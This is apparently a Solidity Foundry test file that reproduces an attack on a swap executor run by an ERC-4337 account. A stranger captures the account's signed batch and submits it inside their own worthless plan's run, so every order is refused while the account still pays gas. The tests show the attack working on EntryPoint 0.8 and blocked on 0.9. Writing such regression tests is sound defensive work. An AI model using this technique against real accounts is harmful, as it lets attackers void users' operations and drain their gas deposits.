// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {ISwapExecutor} from "../../contracts/interfaces/ISwapExecutor.sol";
import {AccountAbstraction, IAccountFactory, IEntryPoint} from "../base/AccountAbstraction.sol";
import {Product} from "../base/Product.sol";
import {SwapIncidentBase} from "../base/SwapIncidentBase.sol";
import {ScriptedExecutor} from "../mocks/ScriptedExecutor.sol";

/// The operator is an ERC-4337 account. A stranger takes its signed batch, opens a run of a worthless plan of their own,
/// and submits the batch in the middle of it: the registry refuses every order, the operation counts as a success, and
/// the account pays the stranger for gas that was never used. The twin is the authors' EntryPoint 0.8, which allows it.
contract CapturedOperationTest is SwapIncidentBase {
  uint256 private constant ORDERS = 14;
  uint256 private constant CALL_GAS = 17_000_000;

  IEntryPoint private entryPoint;
  address private account;
  ScriptedExecutor private thief;
  uint256 private worthless;
  bytes private submission;
  /// What the stranger's transaction used beyond its calldata.
  uint256 private gasUsed;

  function setUp() public override {
    super.setUp();
    vm.txGasPrice(AccountAbstraction.GAS_PRICE);
    _operateBy("contracts");
  }

  function attack() external override {
    thief.beforeDelivery(address(entryPoint), submission);
    uint256 before = gasleft();
    vm.prank(stranger, stranger);
    thief.runOn(worthless, 1, _unsigned(_go()), "");
    gasUsed = before - gasleft();
    ScriptedExecutor.Reply memory reply = thief.reply(0);
    _bubble(reply.succeeded, reply.returned);
  }

  /// IT-1: every plan loses its slot's run, and the stranger gains a million gas.
  function test_TheTwinPaysTheStranger() public {
    _operateBy("contracts-08");
    // Even if every byte of calldata costs most.
    uint256 intrinsic = 21_000 + 16 * submission.length;
    this.attack();

    assertEq(entryPoint.getNonce(account, 0), 1, "the operation is used up");
    for (uint256 i; i < ORDERS; ++i) {
      assertEq(_state(planId + i).runs, 0);
    }
    assertEq(usd.balanceOf(owner), FUNDS);
    assertEq(coin.balanceOf(recipient), 0);
    assertEq(stranger.balance, 1 ether - entryPoint.balanceOf(account), "the account pays the stranger");
    assertGt(stranger.balance, (gasUsed + intrinsic + 1_000_000) * AccountAbstraction.GAS_PRICE);
  }

  /// IT-1: and every plan runs as soon as anybody's key submits the operation.
  function test_RevertWhen_TriedOnEntryPoint09() public {
    _assertAttackFails(abi.encodeWithSelector(IEntryPoint.Reentrancy.selector));
    assertEq(entryPoint.getNonce(account, 0), 0, "the operation is still the account's");
    assertEq(entryPoint.balanceOf(account), 1 ether);

    address bundler = makeAddr("bundler");
    vm.prank(bundler, bundler);
    (bool isSuccess, bytes memory returned) = address(entryPoint).call(submission);
    _bubble(isSuccess, returned);
    for (uint256 i; i < ORDERS; ++i) {
      assertEq(_state(planId + i).runs, 1);
    }
    assertEq(usd.balanceOf(owner), FUNDS - ORDERS * AMOUNT);
    assertEq(coin.balanceOf(recipient), ORDERS * FLOOR);
  }

  /// IT-1: code that a stranger's key has by EIP-7702 cannot be in the middle either.
  function test_RevertWhen_TheSubmittersKeyHasCode() public {
    vm.etch(stranger, abi.encodePacked(hex"ef0100", address(thief)));
    vm.prank(stranger, stranger);
    (bool isSuccess, bytes memory returned) = address(entryPoint).call(submission);
    assertFalse(isSuccess);
    assertEq(returned, abi.encodeWithSelector(IEntryPoint.Reentrancy.selector));
  }

  /// An executor whose operator is an account on this package's EntryPoint, with as many plans as a batch takes.
  function _operateBy(string memory package) private {
    (address key, uint256 privateKey) = makeAddrAndKey("the wallet's key");
    IAccountFactory factory;
    (entryPoint, factory) = AccountAbstraction.deploy(package);
    account = AccountAbstraction.createAccount(entryPoint, factory, key);
    _moveTo(address(Product.swapExecutor(registry, POOL_DEPLOYER, account, rotator)));
    ISwapExecutor.Order[] memory orders = new ISwapExecutor.Order[](ORDERS);
    for (uint256 i; i < ORDERS; ++i) {
      if (i > 0) _create(_swapTerms());
      orders[i] = ISwapExecutor.Order(planId + i, 1, _unsigned(_go()), "", _path());
    }
    bytes memory batch = abi.encodeCall(ISwapExecutor.executeBatch, (orders, 0));
    submission =
      AccountAbstraction.submission(entryPoint, account, privateKey, address(swapper), batch, CALL_GAS, stranger);
    thief = new ScriptedExecutor(registry);
    worthless = _worthlessPlan(thief);
  }

  function _bubble(bool isSuccess, bytes memory returned) private pure {
    if (isSuccess) return;
    assembly ("memory-safe") {
      revert(add(returned, 0x20), mload(returned))
    }
  }
}
